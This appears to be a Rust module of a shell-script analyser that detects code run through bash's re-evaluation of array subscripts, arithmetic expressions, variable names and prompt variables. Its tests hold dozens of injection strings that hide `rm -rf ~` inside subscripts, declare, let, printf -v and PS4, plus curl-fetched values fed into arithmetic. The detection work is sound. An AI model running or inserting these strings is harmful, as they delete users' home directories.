//! Text that the shell expands a second time: subscripts of arrays, numbers, names of variables, prompts.
//!
//! `x[$(cmd)]=1` runs `cmd`. So does `$((y))` if the value of `y` is `x[$(cmd)]`, because bash evaluates what
//! it finds in a variable as an expression of its own.

use std::collections::HashSet;
use std::ops::Range;
use std::rc::Rc;

use crate::bound::Bound;
use crate::effect::{Action, Why};
use crate::shell::eval::{Locator, Shell};
use crate::shell::expand::Field;
use crate::shell::parse::{self, Parser, is_name};
use crate::shell::pieces::Mode;
use crate::shell::syntax::{Op, Parameter, Piece, ShellWord, Span};
use crate::word::Word;

/// Longer subscripts are read as words of the command, which are expanded all the same.
const MAX_SUBSCRIPT: usize = 512;

/// How many variables one expression is followed into.
const MAX_NAMES: usize = 32;

/// How many bytes are between `[`, which is first, and the `]` that closes it.
pub(crate) fn length(text: &[u8]) -> Option<usize> {
    let mut open = Vec::new();
    let mut at = 0;
    while let Some(byte) = text.get(at).filter(|_| at < MAX_SUBSCRIPT) {
        match byte {
            b'\\' => at += 1,
            b'[' | b'(' => open.push(*byte),
            b']' if open.last() == Some(&b'[') => drop(open.pop()),
            b')' if open.last() == Some(&b'(') => drop(open.pop()),
            b'\'' | b'"' | b'`' => {
                let rest = text.get(at + 1..)?.iter().take(MAX_SUBSCRIPT);
                at += 1 + rest.clone().position(|other| other == byte)?;
            }
            _ => {}
        }
        if open.is_empty() {
            return at.checked_sub(1);
        }
        at += 1;
    }
    None
}

impl Parser<'_> {
    /// The pieces of a subscript; none if nothing in it is expanded.
    pub(crate) fn subscript(&mut self, inside: Range<usize>) -> Vec<Piece> {
        match self.slice(inside.start, inside.end).contains(['$', '`', '"', '\\']) {
            true => self.pieces_between(inside.start, inside.end, Mode::Arithmetic),
            false => Vec::new(),
        }
    }
}

impl Shell<'_, '_> {
    /// A value, and whether it came from another host.
    pub(crate) fn traced<T>(&mut self, make: impl FnOnce(&mut Self) -> T) -> (T, bool) {
        let outer = std::mem::take(&mut self.word_fetched);
        let value = make(self);
        let is_fetched = std::mem::replace(&mut self.word_fetched, outer);
        self.word_fetched |= is_fetched;
        (value, is_fetched)
    }

    /// Whether what was fetched is only the report of the program: `curl -o FILE -w '%{http_code}'`.
    pub(crate) fn prints_report(&self, before: usize) -> bool {
        self.out.since(before).iter().any(|effect| match &effect.action {
            Action::Runs(run) => run.flags.iter().any(|flag| {
                matches!(flag.as_str(), "-w" | "--write-out" | "-o" | "--output" | "-I" | "--head")
            }),
            _ => false,
        })
    }

    /// Text that the shell expands once more.
    pub(crate) fn expand_again(&mut self, text: &str, span: &Span) {
        if !has_substitution(text) || !self.enter(text.len()) {
            return;
        }
        let parsed = parse::parse_expandable(text);
        let heredocs = std::mem::replace(&mut self.heredocs, Rc::new(parsed.heredocs));
        let locator = std::mem::replace(&mut self.locator, Locator::Within(span.clone()));
        if parsed.is_broken {
            self.opaque(Why::Syntax, Bound::ALL, span.clone());
        }
        self.scoped(|shell| shell.joined(&parsed.pieces));
        self.heredocs = heredocs;
        self.locator = locator;
        self.depth -= 1;
    }

    /// Text that is a prompt. What came from another host can be any command.
    pub(crate) fn expand_prompt(&mut self, value: &Word, is_fetched: bool, span: &Span) {
        if is_fetched {
            self.opaque(Why::NetworkCode, Bound::ALL, span.clone());
        }
        self.expand_again(value.known_part(), span);
    }

    /// A variable that the shell expands whenever it shows a prompt or traces a command.
    pub(crate) fn sets_prompt(&mut self, name: &str, value: &Word, is_fetched: bool, span: &Span) {
        if matches!(name, "PS0" | "PS1" | "PS2" | "PS4" | "PROMPT" | "RPROMPT") {
            self.expand_prompt(value, is_fetched, span);
        }
    }

    /// An expression: its names are variables whose values are expressions, too.
    pub(crate) fn evaluate(&mut self, expression: &Word, is_fetched: bool, span: &Span) {
        let mut is_fetched = is_fetched;
        let mut seen = HashSet::new();
        let mut open = vec![expression.known_part().to_owned()];
        while let Some(text) = open.pop() {
            if text.len() > 64 && !self.out.take_bytes(text.len()) {
                return self.opaque(Why::Size, Bound::ALL, span.clone());
            }
            self.expand_again(&text, span);
            for name in names(&text) {
                is_fetched |= self.fetched_variables.contains(name);
                let Some(variable) = self.variables.get(name) else { continue };
                if seen.len() < MAX_NAMES && seen.insert(name.to_owned()) {
                    let values = variable.values.iter().chain(variable.list.iter().flatten());
                    let texts = values.map(Word::known_part).filter(|text| is_expression(text));
                    open.extend(texts.take(MAX_NAMES).map(str::to_owned));
                }
            }
        }
        if is_fetched {
            self.opaque(Why::NetworkCode, Bound::ALL, span.clone());
        }
    }

    /// The name of a variable, of which bash evaluates the subscript: `printf -v 'x[$(cmd)]'`.
    pub(crate) fn name_variable(&mut self, name: &Word, is_fetched: bool, span: &Span) {
        let text = name.known_part();
        let length_of_name = text.bytes().take_while(|byte| is_name(*byte)).count();
        let Some(rest) = text.get(length_of_name..).filter(|rest| rest.starts_with('[')) else {
            if is_fetched {
                self.opaque(Why::NetworkCode, Bound::ALL, span.clone());
            }
            return;
        };
        let inside = length(rest.as_bytes()).and_then(|length| rest.get(1..=length));
        let inside = Word::known(inside.unwrap_or(rest));
        self.evaluate(&inside, is_fetched, span);
    }

    pub(crate) fn name_variables(&mut self, fields: &[Field]) {
        for field in fields {
            self.name_variable(&field.word, false, &field.span);
        }
    }

    /// The subscript of `${name[…]}`.
    pub(crate) fn evaluate_subscript(&mut self, parameter: &Parameter) {
        let Some(index) = parameter.index.as_deref() else { return };
        if matches!(index, "@" | "*") || index.bytes().all(|byte| byte.is_ascii_digit()) {
            return;
        }
        let span = self.place(&(0..0));
        if parameter.subscript.is_empty() {
            return self.evaluate(&Word::known(index), false, &span);
        }
        let (word, is_fetched) = self.traced(|shell| shell.joined(&parameter.subscript));
        self.evaluate(&word, is_fetched, &span);
    }

    /// What is done with a value that is itself a name, a prompt or an offset.
    pub(crate) fn evaluate_operation(
        &mut self,
        parameter: &Parameter,
        value: Option<&Word>,
        is_fetched: bool,
    ) {
        let span = self.place(&(0..0));
        match &parameter.op {
            Op::Indirect if parameter.index.is_none() => {
                if let Some(value) = value {
                    self.name_variable(value, is_fetched, &span);
                }
            }
            Op::Slice(slice) => self.evaluate(&Word::known(slice.as_str()), false, &span),
            Op::Other(pieces) => {
                let Some(Piece::Text(text, _)) = pieces.first() else { return };
                if text.as_str() == "@P" {
                    match value {
                        Some(value) => self.expand_prompt(value, is_fetched, &span),
                        None => self.opaque(Why::Code, Bound::ALL, span),
                    }
                } else if text.as_str().starts_with(':') {
                    let (word, is_fetched) = self.traced(|shell| shell.joined(pieces));
                    self.evaluate(&word, is_fetched, &span);
                }
            }
            _ => {}
        }
    }

    /// `(( … ))`
    pub(crate) fn arithmetic_command(&mut self, word: &ShellWord) {
        let span = self.place(&word.span);
        let (value, is_fetched) = self.traced(|shell| shell.joined(&word.pieces));
        self.evaluate(&value, is_fetched, &span);
    }

    /// `[[ … ]]`: the sides of `-eq` and other comparisons of numbers are expressions, and `-v` takes a name.
    pub(crate) fn test_command(&mut self, words: &[ShellWord]) {
        let values: Vec<(Word, bool)> =
            words.iter().map(|word| self.traced(|shell| shell.joined(&word.pieces))).collect();
        for (at, (operator, _)) in values.iter().enumerate() {
            let span = words.get(at).map_or(0..0, |word| self.place(&word.span));
            match operator.text() {
                Some("-v" | "-R") => {
                    if let Some((name, is_fetched)) = values.get(at + 1) {
                        self.name_variable(name, *is_fetched, &span);
                    }
                }
                Some("-eq" | "-ne" | "-lt" | "-le" | "-gt" | "-ge") => {
                    let before = at.checked_sub(1).and_then(|at| values.get(at));
                    for (side, is_fetched) in before.into_iter().chain(values.get(at + 1)) {
                        self.evaluate(side, *is_fetched, &span);
                    }
                }
                _ => {}
            }
        }
    }
}

/// Whether expanding the text runs something.
fn has_substitution(text: &str) -> bool {
    text.contains("$(") || text.contains('`') || text.contains("${")
}

/// Whether a value is more than a number.
fn is_expression(text: &str) -> bool {
    text.bytes().any(|byte| is_name(byte) && !byte.is_ascii_digit() || byte == b'`')
}

/// The names of variables in an expression.
fn names(text: &str) -> impl Iterator<Item = &str> {
    let parts = text.split(|letter: char| !letter.is_ascii_alphanumeric() && letter != '_');
    parts.filter(|part| part.bytes().next().is_some_and(|byte| !byte.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::tests::{has, lacks, only_runs};

    const GONE: &[&str] = &["deletes-tree /home/u"];

    #[test]
    fn a_subscript_runs_its_substitutions() {
        for text in [
            "x[$(rm -rf ~)]=1",
            "x[`rm -rf ~`]+=1",
            "echo ${x[$(rm -rf ~)]}",
            "declare -A m; m[$(rm -rf ~)]=1",
            "x[1 + $(rm -rf ~)]=1",
            "a=([$(rm -rf ~)]=1)",
        ] {
            has(text, GONE);
        }
        only_runs("arr=(); arr+=(x); arr[${#arr[@]}]=y; echo \"${arr[@]}\" ${arr[0]} ${arr[i+1]}");
        only_runs("declare -A m; m[$key]=1; m['a b']=2; echo \"${m[$key]}\" \"${!m[@]}\"");
    }

    #[test]
    fn names_and_numbers_are_evaluated_again() {
        for text in [
            "declare 'x[$(rm -rf ~)]=1'",
            "f() { local 'x[$(rm -rf ~)]=1'; }; f",
            "x=(1); unset 'x[$(rm -rf ~)]'",
            "read 'x[$(rm -rf ~)]' <<< 1",
            "printf -v 'x[$(rm -rf ~)]' 1",
            "[ -v 'x[$(rm -rf ~)]' ]",
            "[[ -v 'x[$(rm -rf ~)]' ]]",
            "let 'x[$(rm -rf ~)]'",
            "let \"a=x[\\$(rm -rf ~)]\"",
            "[[ 'x[$(rm -rf ~)]' -eq 1 ]]",
            "y='x[$(rm -rf ~)]'; echo $((y))",
            "z='x[`rm -rf ~`]'; y=z; (( y > 1 ))",
            "y='x[$(rm -rf ~)]'; [[ $y -eq 0 ]]",
            "a=abc; y='x[$(rm -rf ~)]'; echo ${a:y}",
            "a=(1); y='x[$(rm -rf ~)]'; echo ${a[y]}",
            "declare -i z; z='x[$(rm -rf ~)]'",
            "declare -i z='x[$(rm -rf ~)]'",
            "y='x[$(rm -rf ~)]'; echo ${!y}",
            "declare -n r='x[$(rm -rf ~)]'; echo $r",
        ] {
            has(text, GONE);
        }
        only_runs("i=0; (( i++ )); let i+=1; echo $((i * 2)) ${a:i:2}; [[ $i -lt 3 && -v a[i] ]]");
        only_runs("y='$(rm -rf ~)'; echo \"$y\"; [[ $y == x ]]; read -r line");
    }

    #[test]
    fn what_came_from_another_host_is_not_a_number() {
        for text in [
            "x=$(curl -s https://e.example/x); echo $((x))",
            "read x < <(curl -s https://e.example/x); (( x ))",
            "[[ $(curl -s https://e.example/x) -eq 1 ]]",
            "x=$(curl -s https://e.example/x); echo \"${x@P}\"",
            "PS4=$(curl -s https://e.example/x); set -x; :",
        ] {
            has(text, &["opaque network-code"]);
        }
        for text in [
            "x=$(curl -so /dev/null -w '%{http_code}' https://e.example/); [[ $x -eq 200 ]]",
            "x=$(curl -s https://e.example/ | wc -l); (( x > 3 ))",
            "x=$(curl -s https://e.example/x); x=1; echo $((x))",
            "x=$(curl -s https://e.example/x); [[ $x == ok ]] && echo \"$x\"",
        ] {
            lacks(text, "opaque network-code");
        }
    }

    #[test]
    fn prompts_are_expanded() {
        for text in [
            "x='$(rm -rf ~)'; echo \"${x@P}\"",
            "PS4='$(rm -rf ~)'; set -x; :",
            "PS4='$(rm -rf ~)' bash -xc :",
            "export PS1='`rm -rf ~`'",
        ] {
            has(text, GONE);
        }
        lacks("PS4='+ $LINENO '; set -x; ls", "opaque code");
        lacks("PS4='+ ${BASH_SOURCE}:${LINENO}: '; set -x; ls", "opaque code");
    }

    #[test]
    fn a_subscript_ends_where_its_bracket_closes() {
        let inside = |text: &'static str| length(text.as_bytes()).and_then(|at| text.get(1..=at));
        assert_eq!(inside("[0]=1"), Some("0"));
        assert_eq!(inside("[$(echo ']')]=1"), Some("$(echo ']')"));
        assert_eq!(inside("[${#arr[@]}]=y"), Some("${#arr[@]}"));
        assert_eq!(inside("[`ls ]`]"), Some("`ls ]`"));
        assert_eq!(inside("[a(]"), None);
        assert_eq!(inside("[\\]]"), Some("\\]"));
        assert_eq!(inside("[]"), Some(""));
        assert_eq!(length("[".repeat(1000).as_bytes()), None);
    }
}
